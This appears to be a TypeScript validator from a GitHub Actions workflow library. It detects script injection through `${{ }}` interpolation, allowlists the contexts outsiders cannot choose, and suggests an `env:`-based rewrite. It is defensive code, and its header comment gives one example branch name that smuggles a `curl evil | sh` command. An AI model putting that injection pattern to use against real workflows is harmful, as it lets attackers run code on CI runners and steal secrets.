/**
 * Script injection: `${{ }}` is substituted into a `run:` script (and into
 * an `actions/github-script` script) BEFORE the shell or Node reads it, so a
 * branch named `"; curl evil | sh; "` becomes code. The check is an
 * allowlist: a value may be interpolated only when nobody outside the
 * repository can choose it; everything else is refused with the rewrite that
 * is always safe, handing the value to the script through `env:` and reading
 * it as a variable, which the shell never parses as code.
 *
 * What may be interpolated (what zizmor's template-injection audit, default
 * persona, accepts; workflows of this library must pass it):
 * - the contexts whose value nobody outside the repository chooses, listed
 *   as `fixed` in zizmor's `crates/zizmor/data/context-capabilities.csv`
 *   (zizmorcore/zizmor at 11bbf7e6, 2026-08-22): `FIXED_CONTEXTS` below;
 * - `needs.<job>.result`, `steps.<id>.outcome` and `steps.<id>.conclusion`
 *   (success, failure, cancelled or skipped);
 * - `env.<NAME>` whose nearest definition (step, job, workflow) is a literal;
 * - `matrix.<key>` whose values are all literals;
 * - `inputs.<name>` of a type nobody can fill with text (boolean, number;
 *   choice and environment of `workflow_dispatch`);
 * - anything only compared or tested (`contains(github.head_ref, 'x')`,
 *   `github.ref == 'refs/heads/main'`): only the result is substituted.
 * A branch or tag name (`github.ref`, `github.head_ref`), an actor, the
 * event payload, another job's or step's output, `vars`, a string input:
 * refused. Secrets are refused too (they would be written into the script
 * file), whatever `allowUntrustedInterpolation` says.
 */
import { Step } from './step';
import { scanExpressions } from '../expressions/context-references';
import { dataflowOf } from '../expressions/expression-dataflow';
import { CONTEXTS } from '../expressions/expression-parser';
import { DOCS, seeDocs } from '../validation/docs-links';

/** Contexts nobody outside the repository can choose (zizmor's `fixed`; see the file header). */
export const FIXED_CONTEXTS: readonly string[] = [
  'github.action_path', 'github.job', 'github.repository', 'github.repository_id', 'github.repository_owner',
  'github.repository_owner_id', 'github.repositoryurl', 'github.run_attempt', 'github.run_id', 'github.run_number',
  'github.server_url', 'github.sha', 'github.token', 'github.triggering_actor', 'github.workspace',
  'runner.arch', 'runner.debug', 'runner.os', 'runner.temp', 'runner.tool_cache',
  // Numbers, commit SHAs and booleans of the event payload.
  'github.event.number', 'github.event.pull_request.number', 'github.event.issue.number', 'github.event.pull_request.head.sha',
  'github.event.pull_request.base.sha', 'github.event.after', 'github.event.before', 'github.event.release.id',
  'github.event.pull_request.merged', 'github.event.pull_request.draft', 'github.event.workflow_run.id',
];

/** What the check needs to know about where a step runs. */
export interface InterpolationScope {
  /** The literal value of env variable `name` seen by a step with `stepEnv` (its own, then the job's, then the workflow's), or undefined. */
  envValue(name: string, stepEnv: { [name: string]: string } | undefined): string | undefined;
  /** True when every value of matrix variable `key` is a literal. */
  staticMatrixKey(key: string): boolean;
  /** True for an input nobody can fill with text (boolean, number, choice, environment). */
  fixedInput(name: string): boolean;
}

/** A scope that knows nothing: only fixed contexts pass. */
export const NO_SCOPE: InterpolationScope = { envValue: () => undefined, staticMatrixKey: () => false, fixedInput: () => false };

/** Why a read path may be interpolated; undefined when it may not. */
function allowed(path: readonly string[], step: Step, scope: InterpolationScope): boolean {
  const lower = path.map((s) => s.toLowerCase());
  const dotted = lower.join('.');
  if (FIXED_CONTEXTS.includes(dotted)) {
    return true;
  }
  const [context, name, field] = lower;
  if (path.length === 3 && context === 'needs' && field === 'result') {
    return true;
  }
  if (path.length === 3 && context === 'steps' && (field === 'outcome' || field === 'conclusion')) {
    return true;
  }
  if (path.length === 2 && name !== '*') {
    if (context === 'env') {
      const value = scope.envValue(path[1], step.env);
      return value !== undefined && !value.includes('${{');
    }
    if (context === 'matrix') {
      return scope.staticMatrixKey(path[1]);
    }
    if (context === 'inputs') {
      return scope.fixedInput(path[1]);
    }
  }
  return false;
}

/** One `${{ }}` of a script whose result a step may not interpolate. */
interface Finding {
  readonly text: string;
  readonly expression: string;
  /** What it reads that may not be interpolated (`github.head_ref`, or `a value read off fromJSON(...)`). */
  readonly reads: string[];
  readonly secrets: string[];
  readonly envName: string;
}

const isSecret = (path: readonly string[]) => path[0].toLowerCase() === 'secrets' || path.map((s) => s.toLowerCase()).join('.') === 'github.token';

/** `github.event.pull_request.head.ref` -> `PR_HEAD_REF`; `secrets.npm_token` -> `NPM_TOKEN`. */
function envNameFor(path: readonly string[]): string {
  const segments = path.map((s) => s.toLowerCase()).filter((s) => s !== '*');
  if (segments.join('.') === 'github.token') {
    return 'GITHUB_TOKEN';
  }
  const rest = segments[0] === 'secrets' ? segments.slice(1)
    : segments[0] === 'github' && segments[1] === 'event' ? segments.slice(2)
      : segments.slice(1);
  const name = rest.map((s) => (s === 'pull_request' ? 'pr' : s)).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
  return name === '' ? segments.join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_') || 'VALUE' : /^[0-9]/.test(name) ? `_${name}` : name;
}

function findIn(script: string, step: Step, scope: InterpolationScope, checkUntrusted: boolean): Finding[] {
  const findings: Finding[] = [];
  const names = new Map<string, string>();
  for (const span of scanExpressions(script).spans) {
    const flow = dataflowOf(span.inner);
    // A name that is no context (`gihub.sha`) is the expression check's to report.
    flow.contexts.splice(0, flow.contexts.length, ...flow.contexts.filter((p) => CONTEXTS.includes(p[0].toLowerCase())));
    const secrets = flow.contexts.filter(isSecret);
    const reads = checkUntrusted
      ? [...flow.contexts.filter((p) => !isSecret(p) && !allowed(p, step, scope)).map((p) => p.join('.')), ...(flow.opaque ? ['a value read off a call or a group'] : [])]
      : [];
    if (reads.length === 0 && secrets.length === 0) {
      continue;
    }
    const expression = span.inner.trim();
    let envName = names.get(expression);
    if (envName === undefined) {
      const base = envNameFor([...secrets, ...flow.contexts][0] ?? ['value']);
      envName = base;
      for (let n = 2; [...names.values()].includes(envName); n++) {
        envName = `${base}_${n}`;
      }
      names.set(expression, envName);
    }
    findings.push({ text: script.slice(span.start, span.end), expression, reads: [...new Set(reads)], secrets: [...new Set(secrets.map((p) => p.join('.')))], envName });
  }
  return findings;
}

/** A single-quoted TypeScript string literal, on one line. */
function tsString(value: string): string {
  return `'${value.replace(/\\/g, '\\\\').replace(/'/g, "\\'").replace(/\n/g, '\\n').replace(/\r/g, '\\r').replace(/\t/g, '\\t')}'`;
}

/** How the step's shell (or github-script) reads an environment variable. */
function variable(name: string, shell: string | undefined, script: boolean): string {
  if (script) {
    return `process.env.${name}`;
  }
  const program = (shell ?? '').trim().split(/\s+/)[0].toLowerCase();
  if (program === 'pwsh' || program === 'powershell') return `$env:${name}`;
  if (program === 'cmd') return `%${name}%`;
  return `$${name}`;
}

/** `env: { A: '${{ ... }}' }, run: '...$A...'`: the rewrite, ready to paste. */
function rewrite(step: Step, text: string, key: 'run' | 'script', findings: readonly Finding[]): string {
  let result = text;
  const env: string[] = [];
  for (const finding of findings) {
    result = result.split(finding.text).join(variable(finding.envName, step.shell, key === 'script'));
    const entry = `${finding.envName}: ${tsString(`\${{ ${finding.expression} }}`)}`;
    if (!env.includes(entry)) {
      env.push(entry);
    }
  }
  return `env: { ${env.join(', ')} }, ${key === 'run' ? 'run' : 'with: { script'}: ${tsString(result)}${key === 'script' ? ' }' : ''}`;
}

function list(items: readonly string[]): string {
  return items.length <= 1 ? items.join('') : `${items.slice(0, -1).join(', ')} and ${items[items.length - 1]}`;
}

/** True for a step that runs `actions/github-script` (any ref). */
function isGitHubScript(step: Step): boolean {
  return typeof step.uses === 'string' && /^actions\/github-script@/i.test(step.uses.trim());
}

/**
 * Problems with the `run` script (or the github-script `script`) of `step`,
 * named `where` in messages: values interpolated that someone outside the
 * repository can choose (unless the step sets `allowUntrustedInterpolation`),
 * and secrets (always).
 */
export function scriptInjectionProblems(step: Step, where: string, scope: InterpolationScope = NO_SCOPE): string[] {
  const target = typeof step.run === 'string' ? { key: 'run' as const, text: step.run }
    : isGitHubScript(step) && typeof step.with?.script === 'string' ? { key: 'script' as const, text: step.with.script } : undefined;
  if (target === undefined) {
    return [];
  }
  const into = target.key === 'run' ? '`run`' : 'the github-script `script`';
  const findings = findIn(target.text, step, scope, step.allowUntrustedInterpolation !== true);
  const untrusted = [...new Set(findings.flatMap((f) => f.reads))];
  const secrets = [...new Set(findings.flatMap((f) => f.secrets))];
  // One rewrite for both kinds, so following either message fixes the whole script.
  const fix = rewrite(step, target.text, target.key, findings);
  const problems: string[] = [];
  if (untrusted.length > 0) {
    problems.push(`${where} interpolates the untrusted ${list(untrusted)} into ${into}, where whoever can shape that value (a branch or tag name, an event's text, ` +
      `another job's output) can inject ${target.key === 'run' ? 'shell commands' : 'code'}. Pass it through the environment instead: ${fix} ` +
      `(or set allowUntrustedInterpolation: true on this step if the value is known to be safe).${seeDocs(DOCS.scriptInjection)}`);
  }
  if (secrets.length > 0) {
    problems.push(`${where} interpolates ${list(secrets)} into ${into}, which writes the secret into the script file on the runner and breaks on quotes in its value. ` +
      `Pass it through the environment instead: ${fix}.${seeDocs(DOCS.secureUse)}`);
  }
  return problems;
}
